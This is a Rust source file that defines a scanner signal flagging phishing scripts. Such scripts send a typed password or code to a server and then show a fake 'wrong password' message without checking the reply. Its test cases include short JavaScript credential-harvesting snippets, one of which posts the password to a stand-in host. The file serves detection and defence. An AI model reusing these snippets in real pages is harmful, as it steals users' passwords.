//! `refused-unasked`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "refused-unasked",
    description: "The script sends a typed password, code or card number and calls it wrong without checking the server's response.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::SecretField, Atom::SecretWord, Atom::CardField, Atom::WrongSecret]),
        one(&[Atom::FieldValue, Atom::FormContents, Atom::TriesCounted]),
        one(&[Atom::FeignedRefusal]),
    ],
    within: 260,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "$.ajax({type:'POST',url:'p.php',data:{password:$('#password').val()},success:function(data){setTimeout(function(){$('#a').html('FILE NOT FOUND!')},3e3)},error:function(){$('#a').html('Connection Error')}})",
            "function save(){var i=new Image();i.src='a.php?p='+password.value}b.onclick=function(){save();setTimeout(function(){e.innerHTML='Wrong code, try again'},900)}",
            "fetch('https://c.example/l',{method:'POST',body:JSON.stringify({password:p.value})}).finally(()=>{m.textContent='Wrong password, try again'})",
            "$.post('n.php',{u:$('#u').val(),p:$('#password').val()},function(){$('#m').text('Incorrect password').show()})",
            "async function go(){await save({user:u.value,password:p.value});if(n++===0){m.textContent='Mot de passe incorrect. Réessayez.';return}}",
            "$.ajax({url:'a.php',type:'POST',data:{p:$('#password').val()},complete:function(){$('#m').text('Invalid login, try again')}})",
            "function go(){navigator.sendBeacon('/r',password.value);setTimeout(function(){m.textContent='Das Kennwort stimmt nicht'},900)}",
            "async function go(e){await fetch('/api/send',{method:'POST',body:JSON.stringify({username,password})});tries++;if(tries<2){setError('Incorrect password. Please try again.')}else{location.href='https://mail.example'}}",
        ],
        without: &[
            "async function call(b){const r=await fetch('/v',{method:'POST',body:b});return r.json()}async function go(){const r=await call(password.value);m.textContent=r.error?'Wrong code, try again':'Sent'}",
            "function go(){save(u.value,password.value,function(good){if(!good)m.textContent='Incorrect password'})}function save(u,p,f){$.post('/l',{u:u,p:p},f)}",
            "fetch('/login',{method:'POST',body:JSON.stringify({password:p.value})}).then(r=>{if(!r.ok)m.textContent='Wrong password, try again'})",
            "fetch('/login',{method:'POST',body:JSON.stringify({password:p.value})}).then(()=>location.reload()).catch(()=>{m.textContent='Wrong password, try again'})",
            "$.post('/login',{p:$('#password').val()}).done(function(){location.href='/home'}).fail(function(){$('#m').text('Incorrect password')})",
            "$.post('/login',{p:$('#password').val()},function(d){if(d.in)location.href='/home';else $('#m').text('Incorrect password')})",
            "async function go(){const v=form.values();poster.post({type:'FORM:VALIDATED',payload:v});if(!v.good)return poster.post({type:'FORM:SAVE_FAILED'});await save(u.value,password.value)}",
            "async function go(){try{await login(u.value,password.value);next()}catch(e){m.textContent='Incorrect password'}}",
            "async function go(){const done=await login(u.value,password.value);if(!done)m.textContent='Incorrect password'}",
            "function go(){if(/@/.test(u.value)){$.post('/login',{p:$('#password').val()})}else{$('#m').text('Invalid address, try again')}}",
        ],
    },
};
